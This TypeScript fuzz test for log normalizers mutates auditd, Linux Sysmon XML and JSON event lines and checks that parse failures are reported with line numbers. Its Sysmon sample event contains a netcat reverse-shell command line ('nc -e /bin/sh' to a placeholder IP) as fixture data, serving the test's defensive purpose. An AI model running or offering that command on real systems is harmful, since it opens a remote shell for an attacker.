/**
 * Fuzz: mutated auditd lines, Sysmon XML lines and JSON documents through every normalizer
 * (seeded, reproducible). No exception may escape, and every failure must come back as an
 * error naming its input line.
 */
import fc from 'fast-check';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { createNormalizer, type NormalizeFormat, type NormalizeOutput } from './normalize';

const RUNS = Number(process.env.SEQUENT_FUZZ_RUNS ?? 10_000);
const SEED = 20260101;

const auditLines = [
  ...readFileSync(join(__dirname, 'testdata', 'apt-chain.audit.log'), 'utf8')
    .split('\n')
    .filter(Boolean),
  `type=USER_CMD msg=audit(1489519256.192:19600329): user pid=4151 uid=497 auid=700 ses=11988 msg='cwd="/" cmd=2F7573722F6C6962 terminal=? res=success'`,
  'type=SOCKADDR msg=audit(1666825569.818:23260118): saddr=02000000000000000000000000000000\x1dSADDR={ saddr_fam=inet laddr=0.0.0.0 lport=0 }',
  'node=x type=SYSCALL msg=audit(1723109482.048:4981103): arch=c000003e syscall=87 success=yes exit=0 key="delete"\x1dARCH=x86_64 SYSCALL=unlink AUID="na" UID="dllogc"',
  'type=LOGIN msg=audit(1489636960.072:19623791): pid=28281 uid=0 old auid=700 new auid=700 old ses=6793 new ses=12286',
  'type=EXECVE msg=audit(1.000:7): argc=3 a0="bash" a1_len=10 a1[0]=2D6320 a1[1]=6563686F a2=782079',
];
const sysmonLine =
  'Oct 24 17:06:14 build-01 sysmon: <Event><System><Provider Name="Linux-Sysmon" Guid="{ff032593}"/><EventID>1</EventID>' +
  '<Version>5</Version><Level>4</Level><TimeCreated SystemTime="2022-10-24T17:06:14.193Z"/><EventRecordID>24</EventRecordID>' +
  '<Execution ProcessID="811" ThreadID="811"/><Channel>Linux-Sysmon/Operational</Channel><Computer>build-01</Computer></System>' +
  '<EventData><Data Name="UtcTime">2022-10-24 17:06:14.200</Data><Data Name="ProcessGuid">{d6-8d}</Data><Data Name="ProcessId">42</Data>' +
  '<Data Name="Image">/usr/bin/nc</Data><Data Name="CommandLine">nc -e /bin/sh 1.2.3.4 4444</Data><Data Name="ParentProcessId">41</Data>' +
  '<Data Name="ParentProcessGuid">{d6-8c}</Data><Data Name="ParentImage">/bin/sh</Data><Data Name="TargetFilename">/tmp/x</Data></EventData></Event>';
const sysmonLines = [
  sysmonLine,
  sysmonLine.replace('<EventID>1<', '<EventID>3<'),
  sysmonLine.replace('<EventID>1<', '<EventID>11<'),
];
const jsonLines = [
  JSON.stringify({
    '@timestamp': '2026-01-01T00:00:00Z',
    process: { pid: 1, name: 'x', args: ['a'] },
    source: { ip: '10.0.0.1' },
  }),
  JSON.stringify({
    winlog: {
      event_id: '3',
      event_data: { ProcessId: '1', DestinationIp: '1.2.3.4', UtcTime: '2022-10-24 17:06:14.200' },
    },
  }),
  JSON.stringify({
    auditd: { sequence: 4, data: { arch: 'x86_64' } },
    event: { original: ['a', 'b'], category: 'user-login' },
    source: { port: '22' },
  }),
];

const ALPHABET = [
  '=',
  '"',
  "'",
  ' ',
  '\x1d',
  '<',
  '>',
  '&',
  ':',
  '(',
  ')',
  '{',
  '}',
  '[',
  ']',
  '\0',
  '\\',
  'A',
  '0',
  '9',
  'é',
  '\u2028',
  '/',
  '.',
  ';',
  ',',
];
const mutation = fc.record({
  at: fc.nat(),
  kind: fc.constantFrom('insert', 'delete', 'replace', 'truncate', 'repeat'),
  char: fc.oneof(fc.constantFrom(...ALPHABET), fc.string({ maxLength: 3 })),
  len: fc.integer({ min: 1, max: 40 }),
});

function mutate(base: string, muts: Array<{ at: number; kind: string; char: string; len: number }>): string {
  let s = base;
  for (const m of muts) {
    const i = s.length ? m.at % (s.length + 1) : 0;
    if (m.kind === 'insert') s = s.slice(0, i) + m.char + s.slice(i);
    else if (m.kind === 'delete') s = s.slice(0, i) + s.slice(i + m.len);
    else if (m.kind === 'replace') s = s.slice(0, i) + m.char + s.slice(i + m.char.length);
    else if (m.kind === 'truncate') s = s.slice(0, i);
    else s = s.slice(0, i) + s.slice(i, i + m.len).repeat(3) + s.slice(i);
  }
  return s;
}

function check(out: NormalizeOutput, lineNo: number): void {
  for (const e of out.errors) {
    expect(typeof e.error).toBe('string');
    expect(e.error.length).toBeGreaterThan(0);
    expect(Number.isInteger(e.line) && e.line >= 1 && e.line <= lineNo).toBe(true);
  }
  for (const ev of out.events) JSON.stringify(ev); // serializable
}

function fuzz(
  format: NormalizeFormat,
  bases: string[],
  runs: number,
  shape: 'integration' | 'endpoint' = 'integration',
) {
  const normalizer = createNormalizer({ format, shape, limits: { maxEventBytes: 64 * 1024 } });
  let lineNo = 0;
  let errors = 0;
  fc.assert(
    fc.property(
      fc.nat({ max: bases.length - 1 }),
      fc.array(mutation, { minLength: 1, maxLength: 4 }),
      (b, muts) => {
        const line = mutate(bases[b], muts);
        lineNo++;
        const out = normalizer.push(line, lineNo);
        errors += out.errors.length;
        check(out, lineNo);
      },
    ),
    { seed: SEED, numRuns: runs },
  );
  check(normalizer.flush(), lineNo);
  return { lines: lineNo, errors };
}

describe(`fuzz (${RUNS} mutated inputs per format, seed ${SEED})`, () => {
  it('auditd lines through the coalescing normalizer (endpoint shape)', () => {
    const r = fuzz('auditd', auditLines, RUNS, 'endpoint');
    expect(r.lines).toBe(RUNS);
  });
  it('auditd lines through auditd-records', () => {
    expect(fuzz('auditd-records', auditLines, RUNS).lines).toBe(RUNS);
  });
  it('Sysmon XML lines (both shapes)', () => {
    const r = fuzz('sysmon-linux', sysmonLines, RUNS, 'endpoint');
    expect(r.errors).toBeGreaterThan(0); // the mutations do break XML, and it is reported
    expect(fuzz('sysmon-linux', sysmonLines, Math.ceil(RUNS / 5)).lines).toBe(Math.ceil(RUNS / 5));
  });
  it('JSON documents (ecs, winlog JSON, agent audit events)', () => {
    fuzz('ecs', jsonLines, Math.ceil(RUNS / 5));
    fuzz('sysmon-linux', jsonLines, Math.ceil(RUNS / 5));
    fuzz('auditd', jsonLines, Math.ceil(RUNS / 5));
  });
});
